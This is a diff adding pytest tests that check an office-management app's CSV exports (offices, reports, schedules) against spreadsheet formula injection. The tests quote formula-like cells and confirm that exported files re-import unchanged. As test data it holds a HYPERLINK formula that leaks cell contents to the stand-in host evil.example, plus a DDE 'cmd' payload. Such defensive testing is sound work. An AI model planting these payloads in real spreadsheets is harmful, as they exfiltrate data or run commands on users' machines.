@@ -1,0 +1,97 @@
+"""No formula injection in any CSV export: offices, reports, schedules."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from datetime import date, time
+from pathlib import Path
+
+import pytest
+from fastapi.testclient import TestClient
+
+from app.main import build_app
+from app.settings import DEMO_ADMIN_PASSWORD, demo_settings
+from console_web.supervisor_api import report_csv
+from core.csvsafe import FORMULA_TRIGGERS
+from core.ids import SeatId, TeamId
+from seats.schedule import Shift, parse_schedule_csv, write_schedule_csv
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+
+
+def _no_formula(text: str) -> None:
+    for cell in _cells(text):
+        assert not cell.startswith(FORMULA_TRIGGERS), cell
+
+
+@pytest.fixture
+def client(tmp_path: Path) -> Iterator[TestClient]:
+    settings = demo_settings(
+        database={"url": f"sqlite:///{tmp_path / 'csv.db'}"},
+        sim={"enabled": False},
+        ami={"enabled": False},
+        agi={"port": 0},
+        audiosocket={"enabled": False},
+    )
+    with TestClient(build_app(settings), base_url="http://127.0.0.1") as c:
+        yield c
+
+
+def test_given_an_office_named_like_a_formula_when_exported_then_quoted_and_reimported_unchanged(
+    client: TestClient,
+) -> None:
+    r = client.post("/api/login", json={"username": "admin", "password": DEMO_ADMIN_PASSWORD})
+    h = {"X-CSRF-Token": r.json()["csrf_token"]}
+    office = client.get("/api/offices", params={"limit": 1}).json()["offices"][0]
+    edit = {
+        "name": EVIL,
+        "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "phone": office["phone"],
+        "opening_hours": "-2+3",
+        "lat": office["lat"],
+        "lon": office["lon"],
+        "team_id": office["team_id"],
+    }
+    assert client.put(f"/api/offices/{office['id']}", json=edit, headers=h).status_code == 200
+    exported = client.get("/api/offices/export.csv")
+    assert exported.status_code == 200
+    _no_formula(exported.text)
+    cells = _cells(exported.text)
+    assert "'" + EVIL in cells and "'-2+3" in cells
+    # The quoted file goes back in as it came out: the values are what the admin typed.
+    r = client.post("/api/offices/import", content=exported.content, headers=h)
+    assert r.status_code == 200, r.text
+    again = client.get(f"/api/offices/{office['id']}").json()
+    assert (again["name"], again["address"], again["opening_hours"]) == (
+        EVIL,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+    )
+
+
+def test_given_report_rows_with_formula_text_when_exported_then_quoted() -> None:
+    row = {"label": "=1+1", "offered": 10, "answered": 9, "answer_rate": 0.9}
+    text = report_csv({"rows": [row], "total": {"label": "@合计", "offered": 10}})
+    _no_formula(text)
+    assert "'=1+1" in _cells(text) and "'@合计" in _cells(text)
+    assert "90.0" in _cells(text)  # numbers stay numbers
+
+
+def test_given_a_schedule_with_a_formula_seat_when_exported_then_quoted_and_read_back() -> None:
+    shifts = [
+        Shift(
+            team_id=TeamId("t"), seat_id=SeatId("=cmd"), day=date(2026, 12, 1), start=time(9), end=time(12)
+        ),
+        Shift(
+            team_id=TeamId("t"), seat_id=SeatId("1001"), day=date(2026, 12, 1), start=time(13), end=time(17)
+        ),
+    ]
+    text = write_schedule_csv(shifts)
+    _no_formula(text)
+    assert parse_schedule_csv(text, TeamId("t")) == shifts
